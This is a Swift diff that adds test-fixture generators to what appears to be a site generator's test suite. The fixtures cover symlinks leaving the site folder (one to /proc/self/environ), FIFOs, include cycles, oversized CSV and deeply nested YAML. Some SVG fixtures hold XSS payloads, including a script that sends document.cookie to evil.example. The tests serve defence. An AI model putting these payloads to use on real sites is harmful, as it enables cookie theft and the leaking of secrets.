@@ -92,6 +92,112 @@ enum Generators {
         "site-page-named-faq": { box, entry in
             try box.place(Data("---\ntitle: \"Our FAQ\"\n---\nBody.\n".utf8), at: entry.placement, name: "faq.md")
         },
+        // ---- Issue 11: files that are not regular files inside their folder ----
+        "fifo": { box, _ in
+            box.file = (box.tmp as NSString).appendingPathComponent("fifo")
+            guard mkfifo(box.file, 0o644) == 0 else { throw CocoaError(.fileWriteUnknown) }
+        },
+        "site-logo-link-outside": { box, _ in
+            let site = try box.siteCopy()
+            try svg.write(to: URL(fileURLWithPath: "\(box.tmp)/secret.svg"))
+            box.file = "\(site)/logo.svg"
+            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/secret.svg")
+            try useLogo("logo.svg", in: site)
+        },
+        "site-logo-proc": { box, _ in
+            let site = try box.siteCopy()
+            box.file = "\(site)/logo.png"
+            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "/proc/self/environ")
+            try useLogo("logo.png", in: site)
+        },
+        "site-logo-fifo": { box, _ in
+            let site = try box.siteCopy()
+            box.file = "\(site)/logo.png"
+            guard mkfifo(box.file, 0o644) == 0 else { throw CocoaError(.fileWriteUnknown) }
+            try useLogo("logo.png", in: site)
+        },
+        "site-logo-svg-script": { box, _ in
+            let site = try box.siteCopy()
+            box.file = "\(site)/logo.svg"
+            try Data(#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">\#n  <rect width="10" height="10"/>\#n  <script>fetch("https://evil.example/?"+document.cookie)</script>\#n</svg>\#n"#.utf8)
+                .write(to: URL(fileURLWithPath: box.file))
+            try useLogo("logo.svg", in: site)
+        },
+        "site-logo-svg-handler": { box, _ in
+            let site = try box.siteCopy()
+            box.file = "\(site)/logo.svg"
+            try Data(#"<svg xmlns="http://www.w3.org/2000/svg">\#n<rect width="10" height="10" onclick="alert(1)"/>\#n</svg>\#n"#.utf8)
+                .write(to: URL(fileURLWithPath: box.file))
+            try useLogo("logo.svg", in: site)
+        },
+        "site-logo-svg-javascript-link": { box, _ in
+            let site = try box.siteCopy()
+            box.file = "\(site)/logo.svg"
+            try Data(#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\#n<a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a>\#n</svg>\#n"#.utf8)
+                .write(to: URL(fileURLWithPath: box.file))
+            try useLogo("logo.svg", in: site)
+        },
+        "site-logo-svg-safe": { box, _ in
+            let site = try box.siteCopy()
+            box.file = "\(site)/logo.svg"
+            try svg.write(to: URL(fileURLWithPath: box.file))
+            try useLogo("logo.svg", in: site)
+        },
+        "site-page-link-outside": { box, _ in
+            let site = try box.siteCopy()
+            try Data("---\ntitle: \"Leak\"\n---\nOutside.\n".utf8).write(to: URL(fileURLWithPath: "\(box.tmp)/outside.md"))
+            box.file = "\(site)/pages/leak.md"
+            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/outside.md")
+        },
+        "site-pages-folder-link-outside": { box, _ in
+            let site = try box.siteCopy()
+            try FileManager.default.createDirectory(atPath: "\(box.tmp)/elsewhere", withIntermediateDirectories: false)
+            try Data("---\ntitle: \"Leak\"\n---\nOutside.\n".utf8).write(to: URL(fileURLWithPath: "\(box.tmp)/elsewhere/leak.md"))
+            box.file = "\(site)/pages/more"
+            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/elsewhere")
+        },
+        "template-link-outside": { box, _ in
+            let templates = try box.templatesCopy()
+            box.file = "\(templates)/partials/page.html.mustache"
+            try FileManager.default.moveItem(atPath: box.file, toPath: "\(box.tmp)/page.mustache")
+            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/page.mustache")
+        },
+        "content-link-outside": { box, _ in
+            let content = try box.contentCopy()
+            box.file = "\(content)/guidance/faq/faq.md"
+            try FileManager.default.moveItem(atPath: box.file, toPath: "\(box.tmp)/faq.md")
+            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/faq.md")
+        },
+        // ---- Issue 11: template include cycles ----
+        "template-mutual-include": { box, _ in
+            let templates = try box.templatesCopy()
+            try Data("<div>{{title}}{{> partials/page.html}}</div>\n".utf8).write(to: URL(fileURLWithPath: "\(templates)/partials/aside.html.mustache"))
+            box.file = "\(templates)/partials/page.html.mustache"
+            try Data("<article>\n  <h3>{{title}}</h3>\n  {{> partials/aside.html}}\n</article>\n".utf8).write(to: URL(fileURLWithPath: box.file))
+        },
+        // ---- Issue 11: rosters a spreadsheet or an attacker makes ----
+        "roster-huge-cell": { box, entry in
+            // The issue's case: one 40 MB cell of ';'-separated items.
+            var data = Data("id,match_year,concerns\na,2027,".utf8)
+            data.append(Data(repeating: UInt8(ascii: "x"), count: 1))
+            let item = Data(";other".utf8)
+            var chunk = Data()
+            for _ in 0..<(1 << 16) { chunk.append(item) }
+            while data.count < 40_000_000 { data.append(chunk) }
+            data.append(Data("\n".utf8))
+            try box.place(data, at: entry.placement, name: "roster.csv")
+        },
+        "roster-long-list": { box, entry in
+            let list = Array(repeating: "other", count: 101).joined(separator: ";")
+            try box.place(Data("id,match_year,concerns\na,2027,other\nb,2027,\(list)\n".utf8), at: entry.placement, name: "roster.csv")
+        },
+        "roster-nul-cell": { box, entry in
+            try box.place(Data("id,name,match_year\na,Ann,2027\nb,Bo".utf8) + [0x00] + Data(",2027\n".utf8), at: entry.placement, name: "roster.csv")
+        },
+        "profile-deep-nesting": { box, entry in
+            try box.place(Data(("match_year: 2027\nname: " + String(repeating: "[", count: 2000) + String(repeating: "]", count: 2000) + "\n").utf8),
+                          at: entry.placement, name: "profile.yaml")
+        },
         "output-not-empty": { box, _ in
             box.out = (box.tmp as NSString).appendingPathComponent("thesis")
             try FileManager.default.createDirectory(atPath: box.out, withIntermediateDirectories: false)
@@ -137,6 +243,16 @@ enum Generators {
             box.cleanup.append(Repository.path(box.out))
         },
     ]
+
+    /// A harmless SVG logo.
+    static let svg = Data(##"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#235"/></svg>"##.utf8)
+
+    /// Adds `logo: <name>` to the site.yaml in `site`.
+    static func useLogo(_ name: String, in site: String) throws {
+        let config = "\(site)/site.yaml"
+        let text = try String(contentsOfFile: config, encoding: .utf8)
+        try Data((text + "logo: \(name)\n").utf8).write(to: URL(fileURLWithPath: config))
+    }
 
     /// `head` followed by comment lines up to ``oversize`` bytes.
     static func padded(_ head: String) -> Data {
